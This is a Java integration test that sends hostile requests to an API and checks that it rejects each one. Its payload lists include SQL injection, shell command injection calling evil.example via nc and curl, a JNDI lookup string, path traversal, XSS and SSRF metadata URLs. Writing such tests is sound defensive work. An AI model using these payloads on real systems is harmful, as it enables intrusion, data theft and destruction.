package io.maple.api.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.maple.api.ApiIntegrationTest;
import io.maple.api.HttpApi;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Several hundred malformed or malicious requests against the running API: every one must get a
 * 4xx (never a 5xx, never a 2xx), no execution row may appear, and the service must stay UP.
 */
class HostileInputIT extends ApiIntegrationTest {

    /** Replaced by the JSON escape of an unpaired surrogate in the body text (UTF-8 cannot carry one raw). */
    private static final String LONE_SURROGATE = "LONE-SURROGATE";

    private static final String[] INJECTIONS = {
        "' OR '1'='1", "1; DROP TABLE maple_engine_execution; --", "\" OR \"\"=\"", "$(touch /tmp/maple-pwned)",
        "`id`", "a;reboot", "a|nc evil.example 4444", "a&&curl evil.example", "../../etc/passwd", "..\\..\\boot.ini",
        "${jndi:ldap://evil.example/a}", "#{7*7}", "<script>alert(1)</script>", "a\nb", "a\r\nSet-Cookie: x=1",
        "a\u0000b", "\u202eevil", "a\u200bb", LONE_SURROGATE, "ｆｕｌｌｗｉｄｔｈ", "😀", "%00", "a b", " ", "\t",
        "x".repeat(5000), "é", "null", "\\", "a'b", "/*", "*/", "{{7*7}}", "%s%s%s%n"};

    private static final String[] STRUCTURED = {"uniqueId", "fromApp", "cluster", "clusterQueue", "engineVersion",
        "group", "user", "requestType", "execType"};

    @Autowired
    JdbcTemplate jdbc;

    private final Map<Integer, Integer> byStatus = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private int tried;

    private void expect4xx(String what, HttpApi.Response r) {
        tried++;
        byStatus.merge(r.status(), 1, Integer::sum);
        if (r.status() < 400 || r.status() >= 500) {
            failures.add(r.status() + " for " + what + ": " + r.body().substring(0, Math.min(300, r.body().length())));
        }
    }

    @Test
    void everyHostileRequestIsA4xxNothingIsStoredAndTheServiceStaysUp() {
        String app = newApp();
        HttpApi.Response created = http.post("/api/v1/admin/apps", "{\"name\":\"" + app + "\"}");
        assertThat(created.status()).isEqualTo(201);
        HttpApi client = http.as(app, created.json().get("key").asText());
        long executionsBefore = count("maple_engine_execution");
        long appsBefore = count("maple_application");

        badJson(client);
        injections(client, app);
        wrongTypesAndNumbers(client, app);
        hugeBodies(client, app);
        badQueriesPathsMethodsAndTypes(client);
        badCredentials(app);
        adminHostility(client);

        System.out.printf("hostile input: %d requests tried; by status %s; 5xx or 2xx: %d%n", tried, byStatus,
                failures.size());
        failures.forEach(f -> System.out.println("unexpected: " + f));
        assertThat(failures).isEmpty();
        assertThat(tried).isGreaterThan(300);
        assertThat(count("maple_engine_execution")).isEqualTo(executionsBefore);
        assertThat(count("maple_application")).isEqualTo(appsBefore);
        HttpApi.Response health = http.withHeaders(Map.of()).get("/actuator/health");
        assertThat(health.status()).isEqualTo(200);
        assertThat(health.json().get("status").asText()).isEqualTo("UP");
    }

    private long count(String table) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class);
    }

    private void badJson(HttpApi client) {
        String[] bodies = {"", "{", "}", "[]", "null", "1", "\"str\"", "true", "{\"uniqueId\":", "{\"a\":1,}",
            "{'uniqueId':'x'}", "{uniqueId: 1}", "{\"uniqueId\":\"x\"} trailing", "{\"x\":NaN}", "{\"x\":Infinity}",
            "/* c */ {}", "{\"x\":\"\\uZZZZ\"}", "{\"x\":\"unterminated}", "\u0000", "\ufeff{}", "{\"a\":1}{\"b\":2}",
            "[".repeat(5000), "{\"a\":".repeat(3000), "{\"job\":" + "[".repeat(2000) + "}",
            "<?xml version=\"1.0\"?><a/>", "uniqueId=x&fromApp=y", "{\"priority\":01}", "{\"priority\":1e999999}",
            "{\"\":\"\"}", "{\"uniqueId\":\"a\",\"uniqueId\":\"b\"}"};
        for (String path : List.of("/api/v1/executions", "/api/v1/executions/render")) {
            for (String body : bodies) {
                expect4xx("bad JSON to " + path + ": " + abbreviate(body), client.post(path, body));
            }
        }
        // invalid UTF-8
        expect4xx("invalid UTF-8", client.raw("POST", "/api/v1/executions",
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, "application/json"));
    }

    private void injections(HttpApi client, String app) {
        for (String field : STRUCTURED) {
            for (String value : INJECTIONS) {
                if (value.equals("null") && !field.equals("fromApp")) {
                    continue; // "null" is a legal word for the free-form type fields; it is tried on fromApp
                }
                submit(client, app, field + "=" + abbreviate(value), b -> b.put(field, value));
            }
        }
        for (String field : List.of("execName", "comment")) {
            for (String value : List.of("a\u0000b", "\u202eevil", "a\u200bb", LONE_SURROGATE, "a\u0007b", "x\u001b[31m",
                    "x".repeat(5000))) {
                submit(client, app, field + "=" + abbreviate(value), b -> b.put(field, value));
            }
        }
        String[] badUrls = {"not a url", "javascript:alert(1)", "file:///etc/passwd", "gopher://evil.example/",
            "http://127.0.0.1/x", "http://localhost/x", "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/x", "http://10.0.0.1/x", "http://0x7f000001/", "http://2130706433/", "http:///nohost",
            "http://user:pw@hooks.example/", "http://[fd00::1]/", "http://metadata.google.internal/", "",
            "http://x".repeat(600)};
        for (String url : badUrls) {
            submit(client, app, "webhook " + abbreviate(url), b -> b.putArray("webhooks").add(url));
        }
        submit(client, app, "webhook status NOPE", b -> b.putArray("webhooks").addObject()
                .put("url", "https://hooks.example/a").putArray("statuses").add("NOPE"));
        submit(client, app, "11 webhooks", b -> {
            var hooks = b.putArray("webhooks");
            for (int i = 0; i < 11; i++) {
                hooks.add("https://hooks.example/" + i);
            }
        });
        for (String runType : List.of("bogus", "SQL; rm -rf /", "", "jar' OR 1=1")) {
            submit(client, app, "runType " + runType, b -> ((ObjectNode) b.get("job")).put("runType", runType));
        }
        for (String category : List.of("SPARQ", "", "spark; rm", "hive", "sp ark", "flink\u0000x")) {
            submit(client, app, "engineCategory " + abbreviate(category), b -> b.put("engineCategory", category));
        }
        // another application's name in fromApp
        submit(client, app, "fromApp of another app", b -> b.put("fromApp", HttpApi.ADMIN_APP));
    }

    private void wrongTypesAndNumbers(HttpApi client, String app) {
        for (String field : List.of("uniqueId", "execName", "fromApp", "cluster", "clusterQueue", "engineVersion",
                "group", "user", "engineCategory", "job", "priority")) {
            submit(client, app, field + " as array", b -> b.putArray(field).add(1));
            submit(client, app, field + " as object", b -> b.putObject(field).put("a", 1));
            submit(client, app, field + " missing", b -> b.remove(field));
            submit(client, app, field + " null", b -> b.putNull(field));
        }
        for (String field : List.of("comment", "requestType", "execType", "webhooks")) {
            submit(client, app, field + " as object", b -> b.putObject(field).put("a", 1));
        }
        String[] priorities = {"0", "-1", "6", "2147483648", "-2147483649", "99999999999999999999999", "1e400",
            "-0.5", "\"high\"", "\"\"", "true", "\"1; DROP TABLE x\""};
        for (String p : priorities) {
            expect4xx("priority " + p, client.post("/api/v1/executions",
                    submission(app, "p").toString().replace("\"priority\":1", "\"priority\":" + p)));
        }
        submit(client, app, "job as string", b -> b.put("job", "select 1"));
        submit(client, app, "job conf as array", b -> ((ObjectNode) b.get("job")).putArray("conf").add(1));
    }

    private void hugeBodies(HttpApi client, String app) {
        byte[] big = ("{\"uniqueId\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
        expect4xx("2 MB body", client.raw("POST", "/api/v1/executions", big, "application/json"));
        expect4xx("2 MB chunked body", client.postChunked("/api/v1/executions", big));
        expect4xx("2 MB render", client.raw("POST", "/api/v1/executions/render", big, "application/json"));
        submit(client, app, "200 KB uniqueId", b -> b.put("uniqueId", "u".repeat(200_000)));
        submit(client, app, "10k conf entries", b -> {
            ObjectNode conf = (ObjectNode) b.get("job").get("conf");
            for (int i = 0; i < 10_000; i++) {
                conf.put("spark.x" + i + ".$(id)", "v'" + i);
            }
            b.put("priority", 9);
        });
    }

    private void badQueriesPathsMethodsAndTypes(HttpApi client) {
        String[] queries = {"status=BOGUS", "status=RUNNING'%20OR%201=1", "page=-1", "size=0", "size=-5",
            "size=99999999999", "page=abc", "size=1e3", "createdFrom=yesterday", "createdTo=2026-13-45T99:00:00Z",
            "engineCategory=hive", "fromApp=%27%20OR%201=1", "fromApp=" + HttpApi.ADMIN_APP, "status=,,BOGUS", "size=100000",
            "page=99999999999999999999"};
        for (String q : queries) {
            expect4xx("list ?" + q, client.get("/api/v1/executions?" + q));
        }
        String[] paths = {"/api/v1/executions/abc", "/api/v1/executions/-1", "/api/v1/executions/99999999999999999999",
            "/api/v1/executions/1e3", "/api/v1/executions/999999999", "/api/v1/executions/999999999/live",
            "/api/v1/executions/%27%20OR%201=1", "/api/v1/nothing", "/api/v1/executions/1/../../admin/apps",
            "/api/v1/executions/0x10", "/api/v2/executions"};
        for (String p : paths) {
            expect4xx("GET " + p, client.get(p));
        }
        for (String action : List.of("kill", "cancel", "rerun")) {
            expect4xx(action + " unknown", client.post("/api/v1/executions/999999999/" + action,
                    "{\"reason\":\"$(id)\",\"uniqueId\":\"' OR 1=1\"}"));
            expect4xx(action + " bad JSON", client.post("/api/v1/executions/999999999/" + action, "{"));
            expect4xx(action + " bad id", client.post("/api/v1/executions/abc/" + action, "{}"));
        }
        for (String method : List.of("DELETE", "PUT", "PATCH")) {
            expect4xx(method + " /executions", client.raw(method, "/api/v1/executions", "{}".getBytes(),
                    "application/json"));
        }
        expect4xx("GET render", client.get("/api/v1/executions/render"));
        for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "application/json; charset=ebcdic")) {
            expect4xx("content type " + type, client.raw("POST", "/api/v1/executions",
                    submission("x", "ct").toString().getBytes(StandardCharsets.UTF_8), type));
        }
        expect4xx("no content type", client.raw("POST", "/api/v1/executions",
                submission("x", "ct").toString().getBytes(StandardCharsets.UTF_8), null));
        expect4xx("report without token", client.post("/api/v1/executions/1/report", "{\"status\":\"SUCCEED\"}"));
    }

    private void badCredentials(String app) {
        List<Map<String, String>> headers = List.of(Map.of(), Map.of("X-Maple-App", app),
                Map.of("X-Maple-App", app, "X-Maple-Key", ""), Map.of("X-Maple-App", app, "X-Maple-Key", "' OR 1=1"),
                Map.of("X-Maple-App", "' OR '1'='1", "X-Maple-Key", "x"),
                Map.of("X-Maple-App", "a".repeat(4000), "X-Maple-Key", "x"),
                Map.of("X-Maple-App", "%00", "X-Maple-Key", "x"),
                Map.of("X-Maple-App", app, "X-Maple-Timestamp", "abc", "X-Maple-Signature", "zz"),
                Map.of("X-Maple-App", app, "X-Maple-Timestamp", "99999999999999999999", "X-Maple-Signature", "00"),
                Map.of("X-Maple-App", app, "X-Maple-Timestamp", "-1", "X-Maple-Signature", "00"),
                Map.of("X-Maple-App", app, "X-Maple-Signature", "00"),
                Map.of("X-Maple-App", app, "X-Maple-Timestamp",
                        Long.toString(System.currentTimeMillis() / 1000), "X-Maple-Signature", "not-hex"),
                Map.of("X-Maple-App", HttpApi.ADMIN_APP, "X-Maple-Key", HttpApi.ADMIN_KEY + "x"));
        for (Map<String, String> h : headers) {
            HttpApi anon = http.withHeaders(h);
            expect4xx("credentials " + h.keySet() + " GET", anon.get("/api/v1/executions"));
            expect4xx("credentials " + h.keySet() + " POST", anon.post("/api/v1/executions",
                    submission(app, "cred").toString()));
            expect4xx("credentials " + h.keySet() + " admin", anon.post("/api/v1/admin/apps", "{\"name\":\"x\"}"));
        }
    }

    private void adminHostility(HttpApi client) {
        expect4xx("non-admin creates an admin", client.post("/api/v1/admin/apps", "{\"name\":\"evil\",\"admin\":true}"));
        expect4xx("non-admin registers a cluster", client.post("/api/v1/admin/clusters",
                "{\"name\":\"evil\",\"category\":\"YARN\",\"config\":{}}"));
        expect4xx("non-admin reads clusters", client.get("/api/v1/admin/clusters"));
        String[] appBodies = {"{}", "{\"name\":\"\"}", "{\"name\":\"' OR 1=1\"}", "{\"name\":\"a b\"}",
            "{\"name\":\"" + "n".repeat(65) + "\"}", "{\"name\":\"ok-name\",\"legalHosts\":[\"not-a-cidr\"]}",
            "{\"name\":\"ok-name\",\"legalHosts\":[\"10.0.0.0/99\"]}", "{\"name\":\"ok-name\",\"legalHosts\":\"x\"}",
            "{\"name\":\"ok-name\",\"admin\":\"yes\"}", "{\"name\":[1]}", "{\"name\":\"$(id)\"}",
            "{\"name\":\"\\u202e\"}", "{\"name\":\"ok-name\",\"legalHosts\":[\"evil.example.com\"]}"};
        for (String body : appBodies) {
            expect4xx("admin create app " + abbreviate(body), http.post("/api/v1/admin/apps", body));
        }
    }

    private void submit(HttpApi client, String app, String what, Consumer<ObjectNode> change) {
        ObjectNode body = submission(app, "hostile-" + tried);
        change.accept(body);
        String text = body.toString().replace(LONE_SURROGATE, "\\ud800");
        expect4xx("submit " + what, client.post("/api/v1/executions", text));
        expect4xx("render " + what, client.post("/api/v1/executions/render", text));
    }

    private static String abbreviate(String s) {
        String shown = s.length() > 40 ? s.substring(0, 40) + "...(" + s.length() + ")" : s;
        return shown.replace("\n", "\\n").replace("\r", "\\r").replace("\u0000", "\\0");
    }

}
